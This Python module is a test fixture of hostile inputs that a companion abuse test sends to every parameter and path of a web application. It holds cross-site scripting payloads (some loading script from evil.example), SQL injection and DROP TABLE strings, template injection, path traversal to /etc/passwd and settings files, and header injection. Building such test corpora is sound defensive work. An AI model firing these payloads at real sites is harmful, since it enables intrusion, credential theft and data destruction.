"""Hostile inputs, sent to every public parameter and path segment by test_abuse.py.

Each entry is a `Payload(id, text, raw=False)`. `raw=True` payloads are pasted into the URL as they
are (already percent-encoded bytes such as invalid UTF-8); the others are encoded as a browser
would encode them. Add entries freely: every target in test_abuse.TARGETS gets all of them.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    raw: bool = False

    @property
    def is_markup(self) -> bool:
        """True when reflecting the text verbatim would change the page's markup."""
        return any(c in self.text for c in "<>\"'")


LONG = "A" * 10_000
LONG_UNICODE = "流" * 12_000

CORPUS = [
    # --- Script injection in raw HTML ------------------------------------------------------------
    Payload("script-tag", "<script>alert(1)</script>"),
    Payload("script-tag-caps", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    Payload("script-src", '<script src="https://evil.example/x.js"></script>'),
    Payload("img-onerror", '<img src=x onerror="alert(1)">'),
    Payload("img-onerror-unquoted", "<img src=x onerror=alert(1)//>"),
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>'),
    Payload("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Payload("style-expression", '<div style="background:url(javascript:alert(1))">x</div>'),
    Payload("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    Payload("object-data", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    Payload("template-breakout", "</textarea></title></style><script>alert(1)</script>"),
    Payload("comment-breakout", "--><script>alert(1)</script><!--"),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Payload("base-href", '<base href="https://evil.example/">'),
    Payload("form-action", '<form action="https://evil.example/"><input name=q></form>'),
    # --- URLs ---------------------------------------------------------------------------------------
    Payload("js-url", "javascript:alert(1)"),
    Payload("js-url-tab", "java\tscript:alert(1)"),
    Payload("js-url-entity", "&#106;avascript:alert(1)"),
    Payload("data-url-html", "data:text/html,<script>alert(1)</script>"),
    Payload("vbscript-url", "vbscript:msgbox(1)"),
    Payload("protocol-relative", "//evil.example/%2F.."),
    # --- Markdown ----------------------------------------------------------------------------------
    Payload("md-link-js", "[click me](javascript:alert(1))"),
    Payload("md-image-js", '![x](javascript:alert(1) "t")'),
    Payload("md-autolink-js", "<javascript:alert(1)>"),
    Payload("md-reference-js", "[x][1]\n\n[1]: javascript:alert(1)"),
    Payload("md-link-title-breakout", '[x](https://flux.example "a\\" onmouseover=\\"alert(1))'),
    Payload("md-html-block", "<div markdown=1>\n<script>alert(1)</script>\n</div>"),
    Payload("md-pullquote-script", ">> <script>alert(1)</script>"),
    # --- Attribute breakouts ---------------------------------------------------------------------
    Payload("attr-double", '" onmouseover="alert(1)'),
    Payload("attr-single", "' onfocus='alert(1)' autofocus '"),
    Payload("attr-close-tag", '"><script>alert(1)</script>'),
    Payload("attr-backtick", "`><img src=x onerror=alert(1)>"),
    Payload("json-breakout", '</script><script>alert(1)</script>{"a":"'),
    Payload("template-syntax", "{{ settings.SECRET_KEY }}{% debug %}${7*7}#{7*7}"),
    # --- SQL-like strings ------------------------------------------------------------------------
    Payload("sql-quote", "' OR '1'='1"),
    Payload("sql-comment", "admin'--"),
    Payload("sql-union", "1 UNION SELECT username, password FROM auth_user--"),
    Payload("sql-drop", "Robert'); DROP TABLE articles_article;--"),
    Payload("sql-sleep", "1; SELECT pg_sleep(10)"),
    Payload("tsquery-syntax", "a & | ! ( ) :* <-> 'b'"),
    Payload("like-wildcards", "%_%\\%"),
    # --- Numbers where numbers are expected --------------------------------------------------
    Payload("negative", "-1"),
    Payload("zero", "0"),
    Payload("huge-int", "9" * 400),
    Payload("float", "1e309"),
    Payload("nan", "NaN"),
    Payload("last", "last"),
    # --- Length ----------------------------------------------------------------------------------
    Payload("long-ascii", LONG),
    Payload("long-unicode", LONG_UNICODE),
    Payload("long-script", "<script>" + "a" * 10_000 + "</script>"),
    # --- Unicode edge cases ------------------------------------------------------------------------
    Payload("rtl-override", "abc\u202egnp.exe"),
    Payload("zero-width", "ad\u200bmin\u200d\ufeff"),
    Payload("combining", "Z\u0351\u0360\u0362a\u0352\u0353l\u0354g\u0355o\u0356"),
    Payload("astral", "🔥𝕏𓀀🧪"),
    Payload("surrogate-escape-text", "\\ud800\\udfff"),
    Payload("surrogate-utf8-bytes", "%ED%A0%80", raw=True),
    Payload("invalid-utf8", "%FF%FE%C0%AF", raw=True),
    Payload("overlong-slash", "%C0%AF..%C0%AF", raw=True),
    Payload("fullwidth-script", "＜script＞alert(1)＜/script＞"),
    Payload("homoglyph-slug", "аrticle-1"),  # Cyrillic а
    # --- Control characters --------------------------------------------------------------------
    Payload("nul", "abc\x00def"),
    Payload("nul-raw", "abc%00def", raw=True),
    Payload("nul-only", "\x00"),
    Payload("control-chars", "\x01\x07\x08\x1b[31m\x7f"),
    # --- Paths ---------------------------------------------------------------------------------
    Payload("traversal", "../../../../etc/passwd"),
    Payload("traversal-encoded", "..%2F..%2F..%2Fetc%2Fpasswd", raw=True),
    Payload("traversal-double-encoded", "%252e%252e%252fetc%252fpasswd", raw=True),
    Payload("traversal-backslash", "..\\..\\..\\windows\\win.ini"),
    Payload("traversal-settings", "../fluxsite/settings.py"),
    Payload("absolute-path", "/etc/passwd"),
    # --- Header injection ------------------------------------------------------------------------
    Payload("crlf", "x\r\nSet-Cookie: pwned=1"),
    Payload("crlf-encoded", "x%0d%0aSet-Cookie:%20pwned=1", raw=True),
    Payload("email-bcc", "reader@example.com\r\nBcc: everyone@example.com"),
    Payload("email-lf", "reader@example.com\nSubject: free money"),
    Payload("email-display-name", '"<script>alert(1)</script>" <reader@example.com>'),
    # --- Odd but harmless ----------------------------------------------------------------------
    Payload("empty", ""),
    Payload("whitespace", " \t\n "),
    Payload("emoji-only", "🤖"),
]

assert len(CORPUS) >= 50
assert len({p.id for p in CORPUS}) == len(CORPUS), "payload ids must be unique"
